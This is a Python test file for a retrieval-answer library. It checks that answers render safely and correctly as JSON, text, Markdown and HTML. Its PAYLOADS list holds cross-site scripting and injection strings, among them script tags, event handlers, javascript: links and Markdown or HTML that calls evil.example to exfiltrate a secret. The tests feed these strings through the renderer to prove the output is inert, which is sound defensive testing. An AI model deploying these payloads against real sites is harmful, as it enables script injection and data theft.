"""An answer in every form: complete, correct, and safe whatever the documents hold."""

import json
from collections.abc import Callable
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import jsonschema
import pytest
from hypothesis import given
from hypothesis import strategies as st

import ragkit
from ragkit.render import (
    STATUS_WORDS,
    SectionView,
    answer_record,
    answer_to_html,
    answer_to_json,
    answer_to_markdown,
    answer_to_text,
    clean_html,
    documents_to_html,
    line_to_html,
    section_to_html,
    sources_to_html,
)
from ragkit.types import (
    Answer,
    AnswerSentence,
    Chunk,
    Citation,
    Document,
    Origin,
    Passage,
    RejectedClaim,
    Section,
    SectionKind,
    Sentence,
    SentenceKind,
    Status,
    Timings,
)

SCHEMA = json.loads((Path(ragkit.__file__).parent / "answer.schema.json").read_text("utf-8"))

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onfocus=alert(1) autofocus="',
    '<a href="javascript:alert(1)">here</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<object data='https://evil.example/x'></object>",
    "<form action=https://evil.example><input name=q></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "![seen](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "\n\n![seen][ref]\n\n[ref]: https://evil.example/x.png\n",
    "<https://evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x\nonerror\n=alert(1)",
    "</mark></section><script>alert(1)</script>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
)
TAGS = frozenset(
    {"a", "blockquote", "details", "div", "h2", "h3", "li", "mark", "p", "section", "span"}
    | {"strong", "summary", "table", "tbody", "td", "th", "tr", "ul"}
)
ATTRIBUTES = frozenset({"href", "id", "class", "aria-label", "tabindex", "scope"})


class Tags(HTMLParser):
    """Every element of a piece of HTML, with its attributes."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []
        self.feed(markup)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def ids(self) -> list[str | None]:
        return [attributes["id"] for _, attributes in self.elements if "id" in attributes]


def assert_inert(markup: str) -> None:
    for tag, attributes in Tags(markup).elements:
        assert tag in TAGS
        assert ATTRIBUTES.issuperset(attributes)
        assert str(attributes.get("href", "#")).startswith("#")
    assert "\n" not in markup, "a line break could end the HTML where Markdown shows it"


def make_view(
    parts: list[tuple[SentenceKind, str]], *, title: str = "What Brindle Bay learned"
) -> SectionView:
    """A section made of the sentences given, without their list markers and line breaks."""
    text, sentences = f"4.2 {title}\n\n", []
    body_start = len(text)
    for n, (kind, raw) in enumerate(parts):
        words = raw.removeprefix("- ").strip()
        start = len(text) + raw.index(words)
        text += raw
        sentences.append(Sentence(f"s{n}", "bay", "4.2", n, kind, start, start + len(words), words))
    document = Document(
        "bay", "Review of Brindle Bay", "bay.txt", "0" * 64, text, "Bay Trust", "2021"
    )
    section = Section(
        "4.2", "bay", 3, SectionKind.NUMBERED, "4.2", title, 2,
        ("4 Brindle Bay", f"4.2 {title}"), "4.2", 0, body_start, len(text),
    )  # fmt: skip
    return SectionView(document, section, tuple(sentences))


def cite(view: SectionView, n: int, sentence: int, *, is_note: bool = False) -> Citation:
    found = view.sentences[sentence]
    return Citation(
        n, "bay", view.document.title, "bay.txt", "4.2", view.section.cited_number,
        view.section.title, " > ".join(view.section.path), 12 if n == 1 else None,
        found.text, found.start, found.end, found.kind, is_note, "2021-03",
        "superseded by a later document" if n == 3 else "",
    )  # fmt: skip


def make_answer(view: SectionView) -> Answer:
    """An answer with every origin, a remark in it, and parts left open."""
    passage = Passage(
        Chunk("c0", "bay", "4.2", 0, 4, view.document.text[:4], "bay", ("s0",)),
        view.section, view.document, 0.5, 0.25, 1,
    )  # fmt: skip
    citations = (
        cite(view, 1, 0), cite(view, 2, 1), cite(view, 3, 2), cite(view, 4, 3, is_note=True)
    )  # fmt: skip
    return Answer(
        question="What did Brindle Bay learn?",
        status=Status.PARTIAL,
        sentences=(
            AnswerSentence("The reports answer a part of this.", Origin.NOTICE),
            AnswerSentence("The bay set up two teams and met weekly.", Origin.REWORDED, (1, 2)),
            AnswerSentence(citations[0].quote, Origin.QUOTE, (1,)),
            AnswerSentence(citations[1].quote, Origin.QUOTE, (2,)),
            AnswerSentence(citations[2].quote, Origin.QUOTE, (3,)),
            AnswerSentence("Ward A: 12 beds", Origin.TABLE, (4,)),
        ),
        citations=citations,
        retrieved=(passage,),
        missing=("what the teams cost",),
        nearest=(view.section,),
        rejected=(RejectedClaim("It saved 9 beds.", "figure 9 is not in the evidence"),),
        timings=Timings(0.01, 0.02, 0.3, 0.004, 0.334),
        model="tiny",
        index="abc",
        read_as="What did Brindle Bay learn from its teams?",
    )


@pytest.fixture
def view() -> SectionView:
    return make_view(
        [
            (SentenceKind.PROSE, "The bay set up two teams\n\nin its harbour town. "),
            (SentenceKind.QUOTATION, "Nobody told us when to meet.\n\n"),
            (SentenceKind.BULLET, "- Meet on **Mondays**.\n"),
            (SentenceKind.TABLE_ROW, "Ward A\t12\t<i>beds</i>\n"),
        ]
    )


@pytest.fixture
def answer(view: SectionView) -> Answer:
    return make_answer(view)


def abstention(view: SectionView, status: Status) -> Answer:
    notice = AnswerSentence("The reports do not say.", Origin.NOTICE)
    return replace(make_answer(view), status=status, sentences=(notice,), citations=(), model=None)


# JSON


@pytest.mark.parametrize("status", Status)
def test_json_follows_the_schema(view: SectionView, status: Status) -> None:
    for shown in (replace(make_answer(view), status=status), abstention(view, status)):
        record = json.loads(answer_to_json(shown, id="q7"))
        jsonschema.validate(record, SCHEMA)
        assert record["id"] == "q7"


def test_the_schema_refuses_unknown_and_missing_keys(answer: Answer) -> None:
    record = json.loads(answer_to_json(answer))
    for broken in (
        record | {"extra": 1},
        {k: v for k, v in record.items() if k != "missing"},
        record | {"status": "maybe"},
        record | {"sentences": [{"text": "Uncited.", "origin": "quote", "citations": []}]},
    ):
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.validate(broken, SCHEMA)


def test_a_quotation_in_json_is_the_documents_text(view: SectionView, answer: Answer) -> None:
    for citation in answer_record(answer)["citations"]:
        start, end = citation["start"], citation["end"]
        assert citation["quote"] == view.document.text[start:end]


def test_json_names_the_section_by_the_number_that_is_cited(view: SectionView) -> None:
    section = replace(view.section, number="", cited_number="4")
    record = answer_record(replace(make_answer(view), nearest=(section,)))
    assert record["nearest"][0]["section_number"] == "4"


def test_a_batch_line_is_one_line(answer: Answer) -> None:
    assert "\n" not in answer_to_json(answer)


# Golden files


@pytest.mark.parametrize(
    ("name", "form"),
    [
        ("answer.txt", answer_to_text),
        ("answer.md", answer_to_markdown),
        ("answer.html", answer_to_html),
        ("answer.json", lambda a: answer_to_json(a, id="q1", indent=2)),
    ],
)
def test_an_answer_looks_as_reviewed(
    answer: Answer,
    check_golden: Callable[[str, str], None],
    name: str,
    form: Callable[[Answer], str],
) -> None:
    check_golden(f"render/{name}", form(answer))


def test_a_section_looks_as_reviewed(
    view: SectionView, check_golden: Callable[[str, str], None]
) -> None:
    sentence = view.sentences[2]
    check_golden("render/section.html", section_to_html(view, (sentence.start, sentence.end)))


# Text and Markdown


@pytest.mark.parametrize("width", [40, 72, 100])
def test_text_keeps_to_the_width(answer: Answer, width: int) -> None:
    assert max(map(len, answer_to_text(answer, width=width).splitlines())) <= width


def test_text_opens_with_the_status_in_words(view: SectionView) -> None:
    assert answer_to_text(abstention(view, Status.NOT_FOUND)).startswith("Not in the reports\n")
    assert set(STATUS_WORDS) == set(Status)


def test_an_unanswered_question_names_the_nearest_sections(view: SectionView) -> None:
    text = answer_to_text(abstention(view, Status.NOT_FOUND))
    assert "Review of Brindle Bay, section 4.2, What Brindle Bay learned" in text
    assert "Sources" not in text


def test_text_says_whose_words_a_source_holds(answer: Answer) -> None:
    text = answer_to_text(answer)
    assert '"Nobody told us when to meet." (an interviewee\'s words)' in text
    assert "(wording of the evidence note)" in text
    assert "(superseded by a later document)" in text


def test_control_characters_never_reach_the_terminal(view: SectionView) -> None:
    hostile = "Beds \x1b[31m\x07\x9b2J red \u202e"
    shown = replace(
        make_answer(view),
        sentences=(AnswerSentence(hostile, Origin.QUOTE, (1,)),),
        missing=(hostile,),
    )
    for text in (answer_to_text(shown), answer_to_markdown(shown)):
        assert not set(text) & set("\x1b\x07\x9b\u202e")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_leaves_no_link_image_or_tag(view: SectionView, payload: str) -> None:
    markdown = answer_to_markdown(hostile_answer(payload))
    for opening in ("<", "![", "](", "]["):
        for place in range(len(markdown)):
            if markdown.startswith(opening, place):
                assert markdown[place - 1] == "\\", markdown[place - 9 : place + 9]
    assert "https://" not in markdown


@pytest.mark.parametrize("opening", ["# Title", "- item", "1. item", "2) item", "> quote", "=== x"])
def test_document_text_opens_no_block_in_markdown(view: SectionView, opening: str) -> None:
    shown = replace(
        make_answer(view), sentences=(AnswerSentence(opening, Origin.REWORDED, (1,)),), citations=(
            cite(view, 1, 0),)
    )  # fmt: skip
    line = next(x for x in answer_to_markdown(shown).splitlines() if x.endswith(r"\[1\]"))
    assert line[0] in "\\&"


# HTML


def hostile_answer(payload: str) -> Answer:
    view = make_view([(SentenceKind.PROSE, f"Start {payload} end.\n")] * 4, title=payload)
    shown = make_answer(replace(view, document=replace(view.document, title=payload)))
    return replace(
        shown, question=payload, read_as=payload, missing=(payload,), status=Status.PARTIAL
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_is_inert_in_an_answer(payload: str) -> None:
    shown = hostile_answer(payload)
    assert_inert(answer_to_html(shown))
    assert_inert(sources_to_html(shown.citations))
    assert_inert(line_to_html(payload, "error"))
    assert_inert(documents_to_html([p.document for p in shown.retrieved]))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("kind", SentenceKind)
def test_hostile_text_is_inert_in_a_section(payload: str, kind: SentenceKind) -> None:
    view = make_view([(kind, f"Start {payload}\tend.\n")], title=payload)
    assert_inert(section_to_html(view, (view.sentences[0].start, view.sentences[0].end)))
    assert_inert(section_to_html(view, (view.sentences[0].start + 9, view.sentences[0].end - 2)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_second_wall_stands_alone(payload: str) -> None:
    assert_inert(clean_html(f"<p>Start {payload} end</p>"))


@given(st.text(max_size=80))
def test_any_text_is_inert(text: str) -> None:
    assert_inert(answer_to_html(hostile_answer(text)))


def test_every_marker_leads_to_a_source_and_says_which(answer: Answer) -> None:
    page = Tags(answer_to_html(answer))
    markers = [a for tag, a in page.elements if tag == "a" and a["class"] == "marker"]
    assert len(markers) == 6
    assert {str(m["href"])[1:] for m in markers} <= set(map(str, page.ids()))
    assert markers[0]["aria-label"] == (
        "Source 1: Review of Brindle Bay, March 2021, section 4.2, What Brindle Bay learned, p. 12"
    )


def test_no_id_stands_twice_in_an_answer(answer: Answer) -> None:
    ids = Tags(answer_to_html(answer, prefix="q3-")).ids()
    assert len(ids) == len(set(ids))
    assert all(str(i).startswith("q3-") for i in ids)


# Sections


def marked_words(markup: str) -> str:
    pieces = markup.split("<mark")[1:]
    return " ".join(p.split(">", 1)[1].split("</mark>")[0] for p in pieces)


@pytest.mark.parametrize(
    ("sentence", "words"),
    [
        (0, "The bay set up two teams in its harbour town."),
        (1, "Nobody told us when to meet."),
        (2, "Meet on Mondays."),
        (3, "Ward A 12 beds"),
    ],
)
def test_the_cited_sentence_is_marked_whole(view: SectionView, sentence: int, words: str) -> None:
    found = view.sentences[sentence]
    shown = section_to_html(view, (found.start, found.end))
    assert marked_words(shown) == words
    assert Tags(shown).ids() == ["cited"]


def test_a_section_shows_all_its_sentences_in_their_form(view: SectionView) -> None:
    shown = section_to_html(view, (0, 0))
    assert "<blockquote><p>Nobody told us when to meet.</p></blockquote>" in shown
    assert "<ul><li>Meet on Mondays.</li></ul>" in shown
    assert "<tr><td>Ward A</td><td>12</td><td>beds</td></tr>" in shown


def test_a_row_of_a_markdown_table_shows_its_cells_without_bars() -> None:
    header, row = "| Ward | Beds |", "| A | 12 (of 14) |"
    view = make_view(
        [(SentenceKind.TABLE_HEADER, f"{header}\n"), (SentenceKind.TABLE_ROW, f"{row}\n")]
    )
    cited = view.sentences[1]
    shown = section_to_html(view, (cited.start, cited.end))
    assert '<tr><th scope="col"> Ward </th><th scope="col"> Beds </th></tr>' in shown
    assert marked_words(shown) == "A 12 (of 14)"
    assert "|" not in shown


@given(st.integers(0, 200), st.integers(0, 200))
def test_any_span_has_exactly_one_target(a: int, b: int) -> None:
    view = make_view([(SentenceKind.PROSE, "One sentence. "), (SentenceKind.BULLET, "An item.\n")])
    assert Tags(section_to_html(view, (min(a, b), max(a, b)))).ids() == ["cited"]


def test_a_section_without_sentences_shows_its_text() -> None:
    view = make_view([(SentenceKind.PROSE, "First part.\n\nSecond part.\n")])
    bare = replace(view, sentences=())
    shown = section_to_html(bare, (view.section.body_start, view.section.body_start + 11))
    assert shown.count("<p>") == 2
    assert marked_words(shown) == "First part."
